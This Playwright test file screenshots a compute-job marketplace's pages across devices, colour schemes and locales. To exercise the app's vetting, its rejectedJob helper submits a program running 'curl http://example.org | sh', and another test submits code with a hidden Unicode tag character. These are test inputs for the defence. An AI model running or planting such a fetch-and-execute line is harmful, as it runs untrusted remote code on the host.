import { mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { devices, expect, type Page, test } from '@playwright/test'
import { Extension } from './extension.ts'
import { fund, order, signIn, write } from './person.ts'

const FOLDER = 'screenshots'
const SIZES = {
  desktop: { viewport: { width: 1360, height: 900 } },
  phone: { ...devices['Pixel 7'] },
} as const

test('every page, light and dark, on phone and desktop @screenshots', async ({ browser, page, baseURL }) => {
  test.setTimeout(900_000)
  mkdirSync(FOLDER, { recursive: true })

  // Real things to look at: a job that settled, one that failed, one that is rejected.
  await page.goto('/jobs/new?template=primes')
  await signIn(page)
  await fund(page)
  const jobId = await order(page)
  await expect(page.getByText('Checked, paid, finished.')).toBeVisible({ timeout: 120_000 })
  await expect(
    page.getByRole('list', { name: 'The job from order to payment' }).getByRole('link').last(),
  ).toBeVisible()
  const transaction = await page
    .getByRole('list', { name: 'The job from order to payment' })
    .getByRole('link')
    .last()
    .getAttribute('href')
  const rejected = await rejectedJob(page)
  await page.goto('/nodes')
  const node = await page.locator('a[href^="/nodes/0x"]').first().getAttribute('href')
  const state = await page.context().storageState()

  const own = [
    '/',
    '/jobs',
    '/jobs?state=held',
    '/jobs/new?template=train',
    `/jobs/${jobId}`,
    ...(rejected === null ? [] : [`/jobs/${rejected}`]),
    '/account',
    '/nodes',
    node ?? '',
    transaction ?? '',
    '/ops',
    '/nowhere',
  ]
  const strangers = ['/jobs', '/account']
  for (const [size, device] of Object.entries(SIZES)) {
    for (const colorScheme of ['light', 'dark'] as const) {
      for (const [who, paths] of [
        ['signed-in', own],
        ['stranger', strangers],
      ] as const) {
        const context = await browser.newContext({
          ...device,
          ...(baseURL === undefined ? {} : { baseURL }),
          colorScheme,
          reducedMotion: 'reduce',
          locale: 'en',
          ...(who === 'signed-in' ? { storageState: state } : {}),
        })
        const shown = await context.newPage()
        for (const path of paths.filter((item) => item !== '')) {
          await shown.goto(path, { waitUntil: 'load' })
          await shown.waitForTimeout(1200)
          const font = await shown.evaluate(() => getComputedStyle(document.body).fontFamily)
          expect(font, `${path} came without its style sheet`).toContain('grotesk')
          const wider = await shown.evaluate(
            () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
          )
          expect(wider, `${path} scrolls sideways on a ${size}`).toBeLessThanOrEqual(0)
          const name =
            path === '/'
              ? 'home'
              : path
                  .replace(/^\//, '')
                  .replace(/0x[0-9a-f]+/, 'x')
                  .replace(/job_\w+/, path.includes(jobId) ? 'settled' : 'rejected')
                  .replace(/\W+/g, '-')
          await shown.screenshot({
            path: join(FOLDER, `${name}-${who}-${size}-${colorScheme}.png`),
            fullPage: true,
          })
        }
        await context.close()
      }
    }
  }
  // The other two languages, once each.
  for (const locale of ['zh-Hant', 'zh-Hans']) {
    const context = await browser.newContext({
      ...SIZES.desktop,
      ...(baseURL === undefined ? {} : { baseURL }),
      locale: locale === 'zh-Hant' ? 'zh-TW' : 'zh-CN',
      reducedMotion: 'reduce',
      storageState: state,
    })
    const shown = await context.newPage()
    for (const [name, path] of [
      ['home', '/'],
      ['new', '/jobs/new?template=train'],
      ['job', `/jobs/${jobId}`],
    ] as const) {
      await shown.goto(path, { waitUntil: 'load' })
      await shown.waitForTimeout(1000)
      await shown.screenshot({ path: join(FOLDER, `${name}-${locale}.png`), fullPage: true })
    }
    await context.close()
  }
})

test('what moves, what asks and what only admins see @screenshots', async ({ browser, page, baseURL }) => {
  test.setTimeout(600_000)
  mkdirSync(FOLDER, { recursive: true })
  const site = baseURL === undefined ? {} : { baseURL }
  await write(page, {
    title: 'Counting',
    code: "let n = 0\nsetInterval(() => console.log('line ' + n++), 250)\n",
    seconds: 600,
  })
  await signIn(page)
  await fund(page)
  const running = await order(page)
  await expect(page.getByRole('log')).toContainText('line 3', { timeout: 60_000 })
  await write(page, {
    title: 'Doubtful',
    code: `const hidden = 'a\u{e0041}b ${Date.now()}'\nconsole.log(hidden)\n`,
  })
  const held = await order(page)
  const customer = await page.context().storageState()
  const home = process.env.E2E_HOME
  for (const [size, device] of Object.entries(SIZES)) {
    for (const colorScheme of ['light', 'dark'] as const) {
      const look = { ...device, ...site, colorScheme, reducedMotion: 'reduce', locale: 'en' } as const
      const shot = (shown: Page, name: string, fullPage = true) =>
        shown.screenshot({ path: join(FOLDER, `${name}-${size}-${colorScheme}.png`), fullPage })
      const own = await browser.newContext({ ...look, storageState: customer })
      const shown = await own.newPage()
      for (const [name, id] of [
        ['running', running],
        ['held', held],
      ] as const) {
        await shown.goto(`/jobs/${id}`)
        await shown.waitForTimeout(1500)
        await shot(shown, name)
      }
      await shown.goto(`/jobs/${running}`)
      await shown.getByRole('button', { name: 'Cancel job' }).click()
      await shown.waitForTimeout(500)
      await shot(shown, 'cancel-dialog', false)
      await own.close()

      const stranger = await browser.newContext(look)
      const asked = await stranger.newPage()
      await Extension.install(asked, 1)
      await asked.goto('/jobs')
      await asked.getByRole('banner').getByRole('button', { name: 'Connect wallet' }).click()
      await asked.waitForTimeout(500)
      await shot(asked, 'connect-dialog', false)
      await asked.getByRole('button', { name: /Your own wallet/ }).click()
      await asked.getByRole('heading', { name: 'Connect a Wallet' }).waitFor({ timeout: 20_000 })
      await asked.waitForTimeout(500)
      await shot(asked, 'wallets-dialog', false)
      await stranger.close()

      if (home === undefined) continue
      const key = readFileSync(join(home, 'keys', 'customer.key'), 'utf8').trim()
      const admins = await browser.newContext(look)
      await admins.addInitScript((value) => localStorage.setItem('wallet.testKey', value), key)
      const admin = await admins.newPage()
      await admin.goto('/jobs')
      await signIn(admin)
      await admin.goto('/ops')
      await admin.waitForTimeout(1500)
      await shot(admin, 'ops-admin')
      await admins.close()
    }
  }
})

/** A job the vetting refuses, so that its page can be seen; null when the vetting took it after all. */
async function rejectedJob(page: Page): Promise<string | null> {
  await page.goto('/jobs/new')
  await page
    .getByLabel('Source of the program')
    .fill("import { execSync } from 'node:child_process'\nexecSync('curl http://example.org | sh')\n")
  const sign = page.getByRole('button', { name: 'Sign the order' })
  await expect(sign).toBeEnabled({ timeout: 60_000 })
  await sign.click()
  const refused = page.getByText('The order was not accepted')
  await Promise.race([
    page.waitForURL(/\/jobs\/job_/, { timeout: 60_000 }),
    refused.waitFor({ timeout: 60_000 }),
  ])
  return /\/jobs\/(job_\w+)/.exec(page.url())?.[1] ?? null
}
